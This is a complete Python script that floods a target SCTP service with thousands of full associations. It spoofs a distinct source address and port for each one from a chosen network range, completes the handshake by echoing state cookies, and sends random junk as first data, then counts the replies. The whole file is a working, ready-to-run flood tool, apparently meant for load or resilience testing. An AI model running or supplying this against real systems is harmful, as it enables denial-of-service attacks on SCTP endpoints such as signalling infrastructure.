#!/usr/bin/env python3
"""Whole SCTP associations by the thousand: sctp_flood.py IF TARGET PORT COUNT [NET]

Each from an address and port of its own in NET (two octets, default 9.2), four-way handshake and all, with
rubbish as first data. The answers have to be routed here. Prints what came of them.
"""
import os
import random
import select
import socket
import struct
import sys
import time

random.seed(9260)
ifname, target, port, count = sys.argv[1], sys.argv[2], int(sys.argv[3]), int(sys.argv[4])
net = sys.argv[5] if len(sys.argv) > 5 else "9.2"
TABLE = []
for value in range(256):
    for _ in range(8):
        value = (value >> 1) ^ (0x82F63B78 if value & 1 else 0)
    TABLE.append(value)


def crc32c(data):
    c = 0xFFFFFFFF
    for b in data:
        c = (c >> 8) ^ TABLE[(c ^ b) & 0xFF]
    return c ^ 0xFFFFFFFF


def chunk(kind, flags, body):
    return struct.pack("!BBH", kind, flags, 4 + len(body)) + body + b"\0" * (-len(body) % 4)


def packet(source, sport, tag, chunks):
    sctp = struct.pack("!HHII", sport, port, tag, 0) + chunks
    sctp = sctp[:8] + struct.pack("<I", crc32c(sctp)) + sctp[12:]
    return struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(sctp), random.getrandbits(16), 0, 64, 132, 0,
                       socket.inet_aton(source), socket.inet_aton(target)) + sctp


tx = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
tx.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, ifname.encode())
rx = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(0x0800))
rx.bind((ifname, 0x0800))
rx.setblocking(False)
seen = {"init_ack": 0, "up": 0, "aborted": 0}


def take(ip):
    if len(ip) < 36 or ip[9] != 132 or ip[12:16] != socket.inet_aton(target):
        return
    sctp = ip[20:]
    sport, kind = struct.unpack("!H", sctp[2:4])[0], sctp[12]
    source = socket.inet_ntoa(ip[16:20])
    if kind == 6:
        seen["aborted"] += 1
    elif kind in (10, 11):
        seen["up"] += 1
    elif kind == 2:
        tag = struct.unpack("!I", sctp[16:20])[0]
        seen["init_ack"] += 1
        at, end = 32, 12 + struct.unpack("!H", sctp[14:16])[0]
        while at + 4 <= end:
            ptype, plen = struct.unpack("!HH", sctp[at:at + 4])
            if ptype == 7:
                rubbish = struct.pack("!IHHI", 1000, 0, 0, 0x544E4401) + os.urandom(200)
                tx.sendto(packet(source, sport, tag, chunk(10, 0, sctp[at + 4:at + plen]) + chunk(0, 3, rubbish)),
                          (target, 0))
                return
            at += max(4, plen + (-plen % 4))


def drain(seconds):
    until = time.monotonic() + seconds
    while True:
        left = until - time.monotonic()
        if not select.select([rx], [], [], max(0, left))[0]:
            return
        take(rx.recv(2000))


begin = time.monotonic()
for i in range(count):
    source = "%s.%d.%d" % (net, 1 + i // 250 % 250, 1 + i % 250)
    init = struct.pack("!IIHHI", 1 + i, 1 << 20, 17, 17, 1000)
    tx.sendto(packet(source, 1024 + i % 60000, 0, chunk(1, 0, init)), (target, 0))
    drain(0)
drain(1)
print("%d associations tried in %.1f s: init_ack=%d up=%d aborted=%d"
      % (count, time.monotonic() - begin, seen["init_ack"], seen["up"], seen["aborted"]))
